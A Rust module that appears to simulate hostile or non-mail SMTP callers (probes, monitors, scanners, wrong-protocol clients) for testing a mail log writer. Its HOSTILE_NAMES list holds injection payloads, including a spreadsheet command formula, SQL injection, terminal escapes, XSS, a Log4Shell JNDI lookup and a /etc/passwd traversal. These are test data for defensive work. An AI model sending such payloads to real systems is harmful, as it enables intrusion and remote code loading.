//! Stories of callers that never meant to bring mail: probes, monitors, scanners, attackers.
//!
//! In flows a scene, out flows its script. **Invariant**: what such a caller says is written byte for byte, whatever
//! it is; only line ends cannot occur.

use super::delivery;
use crate::peer::Peer;
use crate::scene::Scene;
use crate::truth::Effect;

const HOSTILE_NAMES: &[&[u8]] = &[
    b"=cmd|' /C calc'!A0",
    b"+SUM(1,2)",
    b"x\"; DROP TABLE hosts; --\", \"y",
    b"\"quoted, name\"",
    b"say \"hello\"",
    b"a,b,c,d,e,f,g,h,i",
    b",,,,,<,EHLO inner,",
    b"\x1b[31mred\x1b[0m",
    b"\x1b]0;title\x07\x1b[2Jgone",
    b"\xff\xfe\xc3(host",
    b"caf\xe9.example.org",
    "invoice\u{202e}gpj.example.net".as_bytes(),
    "mail\u{200b}.例え.example.com".as_bytes(),
    b"tab\there",
    b"nul\0byte",
    b"<script>alert(1)</script>",
    b"${jndi:ldap://203.0.113.250/a}",
    b"../../../../etc/passwd",
];

/// The first bytes of a TLS handshake, sent where SMTP is spoken.
const TLS_HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8f\"\x9a,\xe1";

/// A look at the banner.
pub(crate) fn probe(scene: &mut Scene<'_, '_>) {
    scene.greet();
    scene.pause(20, 3000);
    scene.leave();
}

/// A connection that is gone before the banner.
pub(crate) fn knock(scene: &mut Scene<'_, '_>) {
    scene.open();
    scene.pause(0, 40);
    scene.leave();
}

/// A load balancer or monitor: a polite word, no more.
pub(crate) fn monitor(scene: &mut Scene<'_, '_>) {
    scene.greet();
    match scene.chance.below(3) {
        0 => scene.ehlo(),
        1 => scene.helo(),
        _ => {}
    }
    scene.quit();
}

/// A name made to break whoever reads it; refused or not, as it comes.
pub(crate) fn hostile_greeting(scene: &mut Scene<'_, '_>) {
    scene.peer = Peer::attacker(scene.chance);
    scene.greet();
    scene.wait();
    let long = vec![b'A'; 1800];
    let name: &[u8] = if scene.chance.percent(4) { &long } else { scene.chance.pick::<&[u8]>(HOSTILE_NAMES) };
    let effect = Effect::Hello(String::from_utf8_lossy(name).into_owned());
    scene.bytes(&[b"EHLO ", name].concat(), effect);
    if scene.chance.percent(50) {
        scene.reply("501 5.5.4 Invalid domain name", Effect::Nothing);
        scene.leave();
        return;
    }
    scene.offer(scene.connector.offers);
    if scene.chance.percent(50) { scene.quit() } else { scene.leave() }
}

/// A web browser or a TLS client at the wrong door, or a relay test without EHLO.
pub(crate) fn wrong_protocol(scene: &mut Scene<'_, '_>) {
    scene.peer = Peer::attacker(scene.chance);
    if scene.chance.percent(30) {
        delivery::relay_test(scene);
        return;
    }
    scene.greet();
    scene.wait();
    let lines: &[&[u8]] = match scene.chance.below(2) {
        0 => &[b"GET / HTTP/1.1", b"Host: mail.contoso.com", b"User-Agent: scan/1.0, (like a browser)"],
        _ => &[TLS_HELLO],
    };
    for line in lines {
        scene.bytes(line, Effect::Nothing);
        scene.pause(0, 5);
        scene.reply("500 5.3.3 Unrecognized command", Effect::Nothing);
    }
    scene.leave();
}
